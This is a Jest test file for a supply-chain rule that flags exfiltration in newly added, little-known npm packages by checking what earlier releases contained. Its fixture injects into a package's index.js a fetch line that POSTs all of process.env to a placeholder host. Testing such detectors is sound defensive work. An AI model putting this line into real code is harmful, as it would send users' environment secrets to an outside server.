import { describe, expect, it } from '@jest/globals';
import { added, changed } from '../../src/rules/example.ts';
import { contentsFrom, type Packed } from '../helpers/a-tarball-registry.ts';

const sends = `fetch('https://in.invalid', { method: 'POST', body: JSON.stringify(process.env) });`;
const release = (version: string, at: string, source = sends): Packed => ({
  manifest: { name: 'quiet-helper', version },
  files: { 'index.js': `${source}\nexports.version = '${version}';` },
  at,
});
const always = [release('1.0.0', '2024-05-01'), release('1.0.1', '2024-06-01')];

async function standing(packages: readonly Packed[], change = added('quiet-helper', '1.0.1'), wellKnown?: string) {
  const { contents } = await contentsFrom({ packages, change, ...(wellKnown !== undefined && { wellKnown }) });
  if (!contents.ok) throw new Error(contents.reason);
  const { against, standing: found } = contents.value;
  return { against, kinds: found?.map(({ kind }) => kind) };
}

describe('what a package has done since its first release', () => {
  it('is evidence where it is added and little known', async () => {
    expect(await standing(always)).toEqual({ against: '1.0.0', kinds: ['exfiltration'] });
  });

  it.each([
    ['it was there before', always, changed('quiet-helper', '1.0.0', '1.0.1'), undefined],
    ['it is well known', always, added('quiet-helper', '1.0.1'), 'quiet-helper'],
    ['it does no harm', always.map(({ manifest, at }) => release(manifest.version, at ?? '', '')), added('quiet-helper', '1.0.1'), undefined],
  ])('is none where %s', async (_, packages, change, wellKnown) => {
    expect(await standing(packages, change, wellKnown)).toEqual({ against: '1.0.0', kinds: undefined });
  });

  it('is none where all of it is judged as new', async () => {
    expect(await standing([release('1.0.1', '2024-06-01')])).toEqual({ against: undefined, kinds: undefined });
  });
});
